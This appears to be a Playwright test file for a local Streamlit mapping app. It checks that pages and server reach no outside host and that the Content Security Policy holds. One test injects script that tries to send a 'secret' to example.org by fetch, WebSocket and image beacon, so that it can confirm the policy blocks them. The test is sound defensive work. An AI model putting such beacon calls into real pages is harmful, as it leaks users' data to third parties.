"""`server.py` in a browser: nothing leaves the machine, and its own policy breaks nothing."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Response

from geo.settings import Settings
from tests.serving import Server, serving

PAGES = ("/", "/events", "/articles", "/places", "/about")
LOCAL_SCHEMES = ("data", "blob", "about")


@pytest.fixture(scope="module")
def server(served: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """`server.py` with the sample in its store, every look outside noted and refused."""
    environment = {
        "DATELINE_LOCAL_DIR": str(served.local_dir),
        "DATELINE_CACHE_DIR": str(served.cache_dir),
    }
    folder = tmp_path_factory.mktemp("network")
    with serving(folder, environment=environment) as running:
        yield running


class Watched:
    """A window that notes what it asks for and what its console says."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.said: list[str] = []
        self.missed: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("websocket", lambda socket: self.asked.append(socket.url))
        page.on("response", self._hear)
        page.on("console", lambda message: self.said.append(message.text))
        page.on("pageerror", lambda error: self.said.append(str(error)))

    def _hear(self, answer: Response) -> None:
        # Below a page of its own, Streamlit's script tries out where its server's root is.
        if answer.status >= 400 and "/_stcore/" not in answer.url:
            self.missed.append(answer.url)

    def outside(self, server: Server) -> list[str]:
        """What it asked of anything but the server."""
        here = f"127.0.0.1:{server.port}"
        return [
            url
            for url in self.asked
            if urlsplit(url).scheme not in LOCAL_SCHEMES and urlsplit(url).netloc != here
        ]


@pytest.fixture(scope="module")
def watched(browser: Browser) -> Iterator[Watched]:
    """A window of its own, with nothing kept from any other."""
    context = browser.new_context()
    context.set_default_timeout(60_000)
    yield Watched(context.new_page())
    context.close()


@pytest.mark.parametrize("path", PAGES)
def test_neither_page_nor_server_reaches_outside(
    watched: Watched, server: Server, path: str
) -> None:
    page = watched.page
    page.goto(server.url + path)
    page.wait_for_selector("[data-testid=stTopNav]")
    if path == "/":
        frame = page.frame_locator("iframe[title^='streamlit_folium']")
        frame.locator(".dl-mark").first.wait_for()
    page.wait_for_load_state("networkidle")
    assert any(url.startswith("ws://") for url in watched.asked)
    assert watched.outside(server) == []
    assert watched.missed == []
    assert server.outside_requests() == []
    # A policy that is too tight would show as a refusal, and as a map that is not drawn.
    assert [text for text in watched.said if "Content Security Policy" in text] == []


def test_the_policy_keeps_a_script_in_the_page_from_calling_home(
    watched: Watched, server: Server
) -> None:
    page = watched.page
    page.goto(server.url)
    page.wait_for_selector("[data-testid=stTopNav]")
    blocked = page.evaluate(
        """async () => {
            const tried = [];
            try { await fetch("https://example.org/?secret"); } catch { tried.push("fetch"); }
            try { new WebSocket("wss://example.org/"); } catch { tried.push("socket"); }
            await new Promise((done) => {
                const image = new Image();
                image.onload = image.onerror = done;
                image.src = "https://example.org/pixel.png";
            });
            return tried;
        }"""
    )
    assert "fetch" in blocked
    page.wait_for_timeout(300)
    refused = [text for text in watched.said if "Content Security Policy" in text]
    assert len([text for text in refused if "connect" in text.lower()]) >= 2
    assert any("image" in text.lower() or "img-src" in text for text in refused)
